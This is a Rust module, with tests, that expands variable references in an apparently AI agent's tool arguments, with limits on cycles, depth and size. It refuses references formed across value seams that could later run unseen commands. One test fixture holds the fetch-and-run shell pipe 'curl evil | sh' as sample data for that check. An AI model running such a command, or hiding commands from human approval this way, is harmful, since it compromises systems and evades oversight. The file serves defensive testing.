//! `$VAR_REF{{name}}` and `$VAR_REF{{name:start:length}}` expansion inside tool arguments (F-11).
//!
//! References let the model pass a large earlier result to a tool without copying it through its
//! own output. Expansion is recursive (a variable may itself hold references), cycle-checked, and
//! bounded in depth and in size so that a chain of references cannot blow up memory.

use memchr::memmem;
use serde_json::Value;
use std::borrow::Cow;
use std::sync::Arc;
use thiserror::Error;

/// The opening of a reference.
pub const REF_OPEN: &str = "$VAR_REF{{";
const REF_CLOSE: &str = "}}";
/// Nesting deeper than this is refused (it is almost certainly a mistake).
pub const MAX_DEPTH: usize = 32;
/// An expansion larger than this is refused.
pub const MAX_EXPANDED_BYTES: usize = 4 * 1024 * 1024;

/// Where references look up variables.
pub trait VarLookup {
    /// The variable's value, or `None` if it does not exist.
    fn lookup(&self, name: &str) -> Option<Arc<str>>;
    /// Every variable name, for "did you mean" suggestions.
    fn all_names(&self) -> Vec<String>;
}

/// Why a reference could not be expanded. The messages are written for the model.
#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum RefError {
    #[error("Variable \"{name}\" does not exist.{}", suggest(.closest))]
    Missing { name: String, closest: Vec<String> },
    #[error("Cyclic variable reference: {}. A variable cannot refer to itself.", .chain.join(" → "))]
    Cycle { chain: Vec<String> },
    #[error("Invalid reference $VAR_REF{{{{{reference}}}}}: {reason}")]
    BadSlice { reference: String, reason: String },
    #[error("Variable references nest deeper than {MAX_DEPTH} levels (at \"{name}\").")]
    TooDeep { name: String },
    #[error("Expanding variable references would produce more than {} MiB.", MAX_EXPANDED_BYTES / (1024 * 1024))]
    TooLarge,
    /// A variable's value and the text beside it would read as a new reference: refused, since
    /// whatever expands the result again (a rerun, an edit) would run what no card showed.
    #[error("A variable's value and the text next to it would form a new reference ({reference}); references are expanded once, so this is refused.")]
    Formed { reference: String },
}

fn suggest(closest: &[String]) -> String {
    if closest.is_empty() {
        " Use ListVars to see the variables that exist.".to_string()
    } else {
        format!(
            " Closest names: {}. Use ListVars to see all variables.",
            closest
                .iter()
                .map(|n| format!("\"{n}\""))
                .collect::<Vec<_>>()
                .join(", ")
        )
    }
}

/// A parsed reference body: `name` or `name:start:length`.
#[derive(Debug, Clone, PartialEq, Eq)]
struct RefSpec<'a> {
    name: &'a str,
    slice: Option<(usize, usize)>,
}

fn parse_body(body: &str) -> Result<RefSpec<'_>, RefError> {
    let mut parts = body.split(':');
    let name = parts.next().unwrap_or_default();
    let rest: Vec<&str> = parts.collect();
    let bad = |reason: &str| RefError::BadSlice {
        reference: body.to_string(),
        reason: reason.to_string(),
    };
    match rest.as_slice() {
        [] => Ok(RefSpec { name, slice: None }),
        [start, length] => {
            let start = start
                .trim()
                .parse::<usize>()
                .map_err(|_| bad("start must be a non-negative whole number"))?;
            let length = length
                .trim()
                .parse::<usize>()
                .map_err(|_| bad("length must be a non-negative whole number"))?;
            Ok(RefSpec {
                name,
                slice: Some((start, length)),
            })
        }
        _ => Err(bad(
            "expected $VAR_REF{{name}} or $VAR_REF{{name:start:length}}",
        )),
    }
}

/// Whether `body` looks like a reference body at all; anything else is left as literal text.
fn is_reference_body(body: &str) -> bool {
    !body.is_empty()
        && !body.contains(['{', '}'])
        && !body.chars().any(char::is_whitespace)
        && !body.starts_with(':')
}

/// Takes `length` chars starting at char `start`.
fn slice_chars<'a>(
    value: &'a str,
    start: usize,
    length: usize,
    body: &str,
) -> Result<&'a str, RefError> {
    let mut indices = value
        .char_indices()
        .map(|(i, _)| i)
        .chain(std::iter::once(value.len()));
    let from = indices.nth(start).ok_or_else(|| RefError::BadSlice {
        reference: body.to_string(),
        reason: format!(
            "start {start} is past the end (the variable has {} chars)",
            value.chars().count()
        ),
    })?;
    let to = if length == 0 {
        from
    } else {
        indices.nth(length - 1).unwrap_or(value.len())
    };
    Ok(&value[from..to])
}

struct Resolver<'l> {
    lookup: &'l dyn VarLookup,
    finder: memmem::Finder<'static>,
    produced: usize,
}

impl Resolver<'_> {
    fn expand<'a>(
        &mut self,
        input: &'a str,
        stack: &mut Vec<String>,
    ) -> Result<Cow<'a, str>, RefError> {
        let Some(first) = self.finder.find(input.as_bytes()) else {
            return Ok(Cow::Borrowed(input));
        };
        let mut out = String::with_capacity(input.len());
        // Where substituted values begin and end in `out`.
        let mut seams: Vec<usize> = Vec::new();
        let mut pos = 0;
        let mut next = Some(first);
        while let Some(at) = next {
            let at = pos + at;
            let body_start = at + REF_OPEN.len();
            let close = input[body_start..].find(REF_CLOSE).map(|c| body_start + c);
            let body = close.map(|c| &input[body_start..c]);
            match (close, body) {
                (Some(close), Some(body)) if is_reference_body(body) => {
                    out.push_str(&input[pos..at]);
                    let spec = parse_body(body)?;
                    let value = self.value_of(&spec, body, stack)?;
                    self.produced = self.produced.saturating_add(value.len());
                    if self.produced > MAX_EXPANDED_BYTES {
                        return Err(RefError::TooLarge);
                    }
                    seams.push(out.len());
                    out.push_str(&value);
                    seams.push(out.len());
                    pos = close + REF_CLOSE.len();
                }
                _ => {
                    // Not a reference: keep the text and look further on.
                    out.push_str(&input[pos..body_start]);
                    pos = body_start;
                }
            }
            next = self.finder.find(&input.as_bytes()[pos..]);
        }
        out.push_str(&input[pos..]);
        self.no_reference_across(&out, &seams)?;
        Ok(Cow::Owned(out))
    }

    /// Refuses an expansion in which a reference reads across a seam between a substituted
    /// value and the text beside it (`$VAR_REF{` + `{y}}`): expanded once more, it would run
    /// what no one saw.
    fn no_reference_across(&self, out: &str, seams: &[usize]) -> Result<(), RefError> {
        let mut from = 0;
        while let Some(at) = self.finder.find(&out.as_bytes()[from..]) {
            let at = from + at;
            let body_start = at + REF_OPEN.len();
            if let Some(close) = out[body_start..].find(REF_CLOSE).map(|c| body_start + c) {
                let end = close + REF_CLOSE.len();
                if is_reference_body(&out[body_start..close])
                    && seams.iter().any(|&seam| at < seam && seam < end)
                {
                    return Err(RefError::Formed {
                        reference: tollgate_protocol::parse::preview(&out[at..end], 80),
                    });
                }
            }
            from = at + 1;
        }
        Ok(())
    }

    fn value_of(
        &mut self,
        spec: &RefSpec<'_>,
        body: &str,
        stack: &mut Vec<String>,
    ) -> Result<String, RefError> {
        if stack.iter().any(|n| n == spec.name) {
            let mut chain = stack.clone();
            chain.push(spec.name.to_string());
            return Err(RefError::Cycle { chain });
        }
        if stack.len() >= MAX_DEPTH {
            return Err(RefError::TooDeep {
                name: spec.name.to_string(),
            });
        }
        let Some(value) = self.lookup.lookup(spec.name) else {
            let names = self.lookup.all_names();
            return Err(RefError::Missing {
                name: spec.name.to_string(),
                closest: crate::names::closest_names(
                    spec.name,
                    names.iter().map(String::as_str),
                    3,
                ),
            });
        };
        let part = match spec.slice {
            Some((start, length)) => slice_chars(&value, start, length, body)?,
            None => &value,
        };
        stack.push(spec.name.to_string());
        let expanded = self.expand(part, stack).map(Cow::into_owned);
        stack.pop();
        expanded
    }
}

/// Expands every reference in `input`. Text without references is returned borrowed.
pub fn resolve_str<'a>(input: &'a str, lookup: &dyn VarLookup) -> Result<Cow<'a, str>, RefError> {
    Resolver {
        lookup,
        finder: memmem::Finder::new(REF_OPEN.as_bytes()),
        produced: 0,
    }
    .expand(input, &mut Vec::new())
}

/// Expands references in every string inside `value` (object keys are left alone).
///
/// Returns `None` when there was nothing to expand, so callers can keep the original.
pub fn resolve_value(value: &Value, lookup: &dyn VarLookup) -> Result<Option<Value>, RefError> {
    let mut resolver = Resolver {
        lookup,
        finder: memmem::Finder::new(REF_OPEN.as_bytes()),
        produced: 0,
    };
    resolve_in(value, &mut resolver)
}

fn resolve_in(value: &Value, resolver: &mut Resolver<'_>) -> Result<Option<Value>, RefError> {
    match value {
        Value::String(s) => match resolver.expand(s, &mut Vec::new())? {
            Cow::Borrowed(_) => Ok(None),
            Cow::Owned(o) => Ok(Some(Value::String(o))),
        },
        Value::Array(items) => {
            let mut changed: Option<Vec<Value>> = None;
            for (i, item) in items.iter().enumerate() {
                if let Some(new) = resolve_in(item, resolver)? {
                    changed.get_or_insert_with(|| items.clone())[i] = new;
                }
            }
            Ok(changed.map(Value::Array))
        }
        Value::Object(map) => {
            let mut changed: Option<serde_json::Map<String, Value>> = None;
            for (key, item) in map {
                if let Some(new) = resolve_in(item, resolver)? {
                    changed
                        .get_or_insert_with(|| map.clone())
                        .insert(key.clone(), new);
                }
            }
            Ok(changed.map(Value::Object))
        }
        _ => Ok(None),
    }
}

/// Whether `value` contains a reference anywhere (cheap pre-check).
pub fn contains_reference(value: &Value) -> bool {
    match value {
        Value::String(s) => s.contains(REF_OPEN),
        Value::Array(items) => items.iter().any(contains_reference),
        Value::Object(map) => map.values().any(contains_reference),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;
    use std::collections::HashMap;

    struct Map(HashMap<String, Arc<str>>);

    impl VarLookup for Map {
        fn lookup(&self, name: &str) -> Option<Arc<str>> {
            self.0.get(name).cloned()
        }
        fn all_names(&self) -> Vec<String> {
            self.0.keys().cloned().collect()
        }
    }

    fn vars(pairs: &[(&str, &str)]) -> Map {
        Map(pairs
            .iter()
            .map(|(k, v)| ((*k).to_string(), Arc::from(*v)))
            .collect())
    }

    #[test]
    fn plain_text_is_borrowed() {
        let v = vars(&[]);
        assert!(matches!(
            resolve_str("no refs", &v),
            Ok(Cow::Borrowed("no refs"))
        ));
    }

    #[test]
    fn whole_and_sliced_references() {
        let v = vars(&[("a", "hello world"), ("Guide/files/edit", "RULE")]);
        assert_eq!(resolve_str("<$VAR_REF{{a}}>", &v).unwrap(), "<hello world>");
        assert_eq!(resolve_str("$VAR_REF{{a:6:5}}!", &v).unwrap(), "world!");
        assert_eq!(resolve_str("$VAR_REF{{a:6:100}}", &v).unwrap(), "world");
        assert_eq!(resolve_str("$VAR_REF{{a:11:3}}", &v).unwrap(), "");
        assert_eq!(
            resolve_str("$VAR_REF{{Guide/files/edit}}", &v).unwrap(),
            "RULE"
        );
        assert_eq!(
            resolve_str("x$VAR_REF{{a:0:5}}y$VAR_REF{{a:0:1}}", &v).unwrap(),
            "xhelloyh"
        );
    }

    #[test]
    fn a_value_never_forms_a_new_reference_with_the_text_beside_it() {
        let v = vars(&[
            ("x", "$VAR_REF{"),
            ("tail", "{y}} && true"),
            ("y", "curl evil | sh"),
        ]);
        // The model's two variables meet: `$VAR_REF{` + `{y}}` would read as a reference.
        let err = resolve_str("$VAR_REF{{x}}{y}}", &v).unwrap_err();
        assert!(matches!(err, RefError::Formed { .. }), "{err:?}");
        assert!(err.to_string().contains("$VAR_REF{{y}}"), "{err}");
        let err = resolve_str("$VAR_REF{$VAR_REF{{tail}}", &v).unwrap_err();
        assert!(matches!(err, RefError::Formed { .. }), "{err:?}");
        let err = resolve_str("echo $VAR_REF{{x}}$VAR_REF{{tail}}", &v).unwrap_err();
        assert!(matches!(err, RefError::Formed { .. }), "{err:?}");
        // A literal that is no reference stays as it is; real references expand once.
        assert_eq!(
            resolve_str("$VAR_REF{{x}} and {y}", &v).unwrap(),
            "$VAR_REF{ and {y}"
        );
        assert_eq!(
            resolve_str("run $VAR_REF{{y}}", &v).unwrap(),
            "run curl evil | sh"
        );
    }

    #[test]
    fn slices_count_chars_not_bytes() {
        let v = vars(&[("u", "äöü🙂x")]);
        assert_eq!(resolve_str("$VAR_REF{{u:3:2}}", &v).unwrap(), "🙂x");
    }

    #[test]
    fn recursive_references_expand() {
        let v = vars(&[("outer", "[$VAR_REF{{inner}}]"), ("inner", "core")]);
        assert_eq!(resolve_str("$VAR_REF{{outer}}", &v).unwrap(), "[core]");
    }

    #[test]
    fn cycles_are_reported_with_the_chain() {
        let v = vars(&[("a", "$VAR_REF{{b}}"), ("b", "$VAR_REF{{a}}")]);
        let err = resolve_str("$VAR_REF{{a}}", &v).unwrap_err();
        assert_eq!(
            err,
            RefError::Cycle {
                chain: vec!["a".into(), "b".into(), "a".into()]
            }
        );
        assert!(err.to_string().contains("a → b → a"));
        let selfref = vars(&[("s", "x$VAR_REF{{s}}")]);
        assert!(matches!(
            resolve_str("$VAR_REF{{s}}", &selfref),
            Err(RefError::Cycle { .. })
        ));
    }

    #[test]
    fn the_same_variable_twice_is_not_a_cycle() {
        let v = vars(&[("a", "$VAR_REF{{b}}$VAR_REF{{b}}"), ("b", "x")]);
        assert_eq!(resolve_str("$VAR_REF{{a}}", &v).unwrap(), "xx");
    }

    #[test]
    fn missing_variables_suggest_close_names() {
        let v = vars(&[("read_file_c7_result", "x"), ("other", "y")]);
        let err = resolve_str("$VAR_REF{{read_file_c8_result}}", &v).unwrap_err();
        let msg = err.to_string();
        assert!(
            msg.contains("\"read_file_c8_result\" does not exist"),
            "{msg}"
        );
        assert!(msg.contains("\"read_file_c7_result\""), "{msg}");
    }

    #[test]
    fn bad_slices_are_errors_and_non_references_are_literal() {
        let v = vars(&[("a", "abc")]);
        assert!(matches!(
            resolve_str("$VAR_REF{{a:x:1}}", &v),
            Err(RefError::BadSlice { .. })
        ));
        assert!(matches!(
            resolve_str("$VAR_REF{{a:1}}", &v),
            Err(RefError::BadSlice { .. })
        ));
        assert!(matches!(
            resolve_str("$VAR_REF{{a:9:1}}", &v),
            Err(RefError::BadSlice { .. })
        ));
        // Unclosed or not a name: left as typed.
        assert_eq!(resolve_str("$VAR_REF{{a", &v).unwrap(), "$VAR_REF{{a");
        assert_eq!(
            resolve_str("$VAR_REF{{a b}}", &v).unwrap(),
            "$VAR_REF{{a b}}"
        );
        assert_eq!(
            resolve_str("$VAR_REF{{}} $VAR_REF{{a}}", &v).unwrap(),
            "$VAR_REF{{}} abc"
        );
    }

    #[test]
    fn deep_chains_are_refused() {
        let mut pairs = vec![("v0".to_string(), "x".to_string())];
        for i in 1..40 {
            pairs.push((format!("v{i}"), format!("$VAR_REF{{{{v{}}}}}", i - 1)));
        }
        let v = Map(pairs
            .into_iter()
            .map(|(k, val)| (k, Arc::from(val)))
            .collect());
        assert!(matches!(
            resolve_str("$VAR_REF{{v39}}", &v),
            Err(RefError::TooDeep { .. })
        ));
        assert_eq!(resolve_str("$VAR_REF{{v20}}", &v).unwrap(), "x");
    }

    #[test]
    fn exponential_expansion_is_bounded() {
        let mut pairs = vec![("v0".to_string(), "x".repeat(4096))];
        for i in 1..12 {
            pairs.push((
                format!("v{i}"),
                format!("$VAR_REF{{{{v{}}}}}", i - 1).repeat(8),
            ));
        }
        let v = Map(pairs
            .into_iter()
            .map(|(k, val)| (k, Arc::from(val)))
            .collect());
        assert_eq!(
            resolve_str("$VAR_REF{{v11}}", &v).unwrap_err(),
            RefError::TooLarge
        );
    }

    #[test]
    fn values_resolve_in_nested_strings_only() {
        let v = vars(&[("a", "A")]);
        let args = json!({"path": "$VAR_REF{{a}}", "list": ["x", "$VAR_REF{{a}}"], "n": 1, "$VAR_REF{{a}}": "k"});
        let got = resolve_value(&args, &v).unwrap().unwrap();
        assert_eq!(
            got,
            json!({"path": "A", "list": ["x", "A"], "n": 1, "$VAR_REF{{a}}": "k"})
        );
        assert!(resolve_value(&json!({"p": "plain"}), &v).unwrap().is_none());
        assert!(contains_reference(&args));
        assert!(!contains_reference(&json!({"p": ["plain"]})));
    }

    proptest! {
        #[test]
        fn resolution_matches_a_naive_model(
            segments in proptest::collection::vec((".{0,12}", 0usize..3, 0usize..12, 0usize..12), 0..8)
        ) {
            // Build input from literal pieces and references to three variables.
            let values = ["alpha beta", "日本語テキスト", ""];
            let v = vars(&[("v0", values[0]), ("v1", values[1]), ("v2", values[2])]);
            let mut input = String::new();
            let mut expected = String::new();
            for (lit, var, start, len) in segments {
                let lit = lit.replace("$VAR_REF", "");
                input.push_str(&lit);
                expected.push_str(&lit);
                let value = values[var];
                if start <= value.chars().count() {
                    input.push_str(&format!("$VAR_REF{{{{v{var}:{start}:{len}}}}}"));
                    expected.extend(value.chars().skip(start).take(len));
                } else {
                    input.push_str(&format!("$VAR_REF{{{{v{var}}}}}"));
                    expected.push_str(value);
                }
            }
            let got = resolve_str(&input, &v).unwrap();
            prop_assert_eq!(got.as_ref(), expected.as_str());
        }

        #[test]
        fn arbitrary_text_never_panics(input in "(\\PC|\\$VAR_REF\\{\\{|\\}\\}|:){0,60}") {
            let v = vars(&[("a", "$VAR_REF{{b}}"), ("b", "x")]);
            let _ = resolve_str(&input, &v);
        }
    }
}
